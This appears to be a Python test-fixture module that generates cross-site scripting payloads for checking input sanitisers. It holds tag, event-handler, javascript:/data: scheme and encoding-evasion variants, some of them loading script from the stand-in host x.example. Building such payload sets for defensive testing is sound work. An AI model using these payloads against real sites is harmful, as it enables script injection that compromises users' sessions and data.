"""Attacks by script, each naming itself by a number, in the families of the usual evasion lists (hostile-inputs C1)."""

__all__ = ["ADDRESSES", "TEXTS"]

# {0} is where the script goes; each family is tried with each way to run one.
_RUN = ("alert({0})", "window.xss={0}", "fetch('/x?{0}')", "document.title='xss{0}'")
_MARKUP = (
    "<script>{0}</script>",
    "<SCRIPT>{0}</SCRIPT>",
    "<scr<script>ipt>{0}</scr</script>ipt>",
    "<script src=//x.example></script>",
    '"><script>{0}</script>',
    "'><script>{0}</script>",
    "</title><script>{0}</script>",
    "</textarea><script>{0}</script>",
    "--><script>{0}</script>",
    "]]><script>{0}</script>",
    "<img src=x onerror={0}>",
    '<img src=x onerror="{0}"//',
    "<img/src=x/onerror={0}>",
    '"><img src=x onerror={0}>',
    "<svg onload={0}>",
    "<svg/onload={0}>",
    "<svg><script>{0}</script></svg>",
    "<svg><animate onbegin={0} attributeName=x dur=1s>",
    "<body onload={0}>",
    '<iframe srcdoc="<script>{0}</script>">',
    "<iframe src=javascript:{0}>",
    "<object data=javascript:{0}>",
    "<embed src=javascript:{0}>",
    "<a href=javascript:{0}>x</a>",
    '<a href="jav&#x09;ascript:{0}">x</a>',
    "<form action=javascript:{0}><button>x</button></form>",
    "<input autofocus onfocus={0}>",
    "<details open ontoggle={0}>",
    "<video><source onerror={0}>",
    "<marquee onstart={0}>",
    "<math><mtext></p><img src=x onerror={0}>",
    '<noscript><p title="</noscript><img src=x onerror={0}>">',
    "<style>@import 'javascript:{0}'</style>",
    "<link rel=stylesheet href=javascript:{0}>",
    "<base href=//x.example/>",
    '<meta http-equiv=refresh content="0;url=javascript:{0}">',
    "<template><script>{0}</script></template>",
    "<x onclick={0}>x",
    '<div style="background:url(javascript:{0})">',
    "<isindex type=image src=1 onerror={0}>",
    '" onmouseover={0} x="',
    "' onmouseover={0} x='",
    "` onmouseover={0} x=`",
    '" autofocus onfocus={0} x="',
    "{{{{{0}}}}}",
    "${{{0}}}",
    "{{% for x in [1] %}}{0}{{% endfor %}}",
    "&lt;script&gt;{0}&lt;/script&gt;",
    "\u003cscript\u003e{0}\u003c/script\u003e",
    "＜script＞{0}＜/script＞",
    "<script\x0b>{0}</script>",
    "<\u200bscript>{0}</script>",
)
_SCHEMES = (
    "javascript:{0}",
    "JaVaScRiPt:{0}",
    "java\tscript:{0}",
    " javascript:{0}",
    "\x01javascript:{0}",
    "javascript&colon;{0}",
    "javascript://x.example/%0a{0}",
    "vbscript:{0}",
    "data:text/html,<script>{0}</script>",
    "data:text/html;base64,PHNjcmlwdD4=",
    'https://x.example/"onmouseover={0}',
    "https://x.example/'><script>{0}</script>",
    "//x.example/{0}",
    "https://x.example/?a=<script>{0}</script>",
    "blob:https://x.example/{0}",
    "feed:javascript:{0}",
)


def _made(families: tuple[str, ...], ways: int) -> tuple[str, ...]:
    made = []
    for family in families:
        for way in _RUN[:ways]:
            made.append(family.format(way.format(len(made))))
    return tuple(dict.fromkeys(made))


TEXTS = _made(_MARKUP, 3)
ADDRESSES = _made(_SCHEMES, 2)
